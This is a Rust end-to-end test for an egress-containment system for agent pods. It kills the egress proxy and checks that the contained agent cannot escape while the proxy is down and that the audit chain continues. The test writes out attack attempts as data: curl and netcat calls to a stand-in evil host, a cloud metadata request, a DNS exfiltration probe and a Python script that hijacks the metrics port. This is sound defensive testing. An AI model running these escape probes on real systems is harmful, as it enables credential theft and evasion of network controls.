//! The proxy dies: the agent has no way out until it is back, and its chain goes on.

use exeat_e2e::{Agent, Case, Host, exeat};

use crate::egress::{proxy_uid, records_with};

/// Takes the port for metrics, which is open to the cluster, and serves whoever connects in.
const THIEF: &str = "import socket,time
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.settimeout(6)
s.bind(('0.0.0.0',15020)); s.listen()
end=time.time()+5
while time.time()<end:
    c,a=s.accept(); c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nstolen'); c.close()";

#[tokio::test]
async fn bypass_proxy_killed() -> anyhow::Result<()> {
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        let url = format!("https://{}", Host::DATA.name);
        agent.curl(&format!("{url}/before")).await?.expect_status("200")?;
        let uid = proxy_uid(case, "agent").await?;
        let on_its_node = include_str!("node.yaml").replace("@NODE@", &agent.node().await?);
        Case::run_labelled(&[], &on_its_node, async |node| {
            let node = node.agent("node").await?;
            // The kubelet starts it again at once, and then waits for ten seconds.
            let kill = format!(
                "for n in 1 2 3 4 5 6; do pkill -KILL -u {uid}; sleep 0.5; done; ! pgrep -u {uid}"
            );
            node.sh(&kill).await?.expect_success()?;
            while_it_is_dead(&agent, &node, &uid).await
        })
        .await?;
        case.agent("agent").await?;
        agent.curl(&format!("{url}/after")).await?.expect_status("200")?;
        agent
            .curl(&format!("https://{}/", Host::OTHER.address))
            .await?
            .expect_failure_or_refusal()?;
        case.expect_nothing_forbidden().await?;
        chain_goes_on(case).await
    })
    .await
}

async fn while_it_is_dead(agent: &Agent, node: &Agent, uid: &str) -> anyhow::Result<()> {
    let (evil, address) = (Host::EVIL.address, agent.address().await?);
    let attempts = format!(
        "for url in https://{0}/ http://{evil}/ https://{evil}/ http://169.254.169.254/; do curl -sk -m 2 $url && echo got; done; \
         echo hello | nc -w 1 {evil} 9000 && echo got; echo hello | nc -u -w 1 {evil} 9000 | grep . && echo got; \
         dig +time=1 +tries=1 +short evil.example @{evil} | grep -v ';' && echo got; true",
        Host::DATA.name
    );
    let theft = async {
        // The node is let in by every NetworkPolicy.
        node.sh(&format!("sleep 1; curl -s -m 3 http://{address}:15020/")).await
    };
    let (tried, stolen, thief) =
        tokio::join!(agent.sh(&attempts), theft, agent.exec("agent", &["python3", "-c", THIEF]));
    anyhow::ensure!(
        tried.as_ref().is_ok_and(|tried| tried.stdout.is_empty()),
        "a way out: {tried:?}"
    );
    anyhow::ensure!(
        !stolen?.stdout.contains("stolen"),
        "the port for metrics is the agent's: {thief:?}"
    );
    anyhow::ensure!(thief?.stderr.contains("timed out"), "the port could not be taken");
    node.sh(&format!("! pgrep -u {uid}")).await?.expect_success()?;
    Ok(())
}

async fn chain_goes_on(case: &Case) -> anyhow::Result<()> {
    let records = records_with(case, "/after").await?;
    for needed in ["/before", "\"Restart\""] {
        anyhow::ensure!(records.contains(needed), "{needed} is not recorded: {records}");
    }
    exeat(&["audit", "verify", "--namespace", &case.namespace]).await?.expect_success()?;
    Ok(())
}
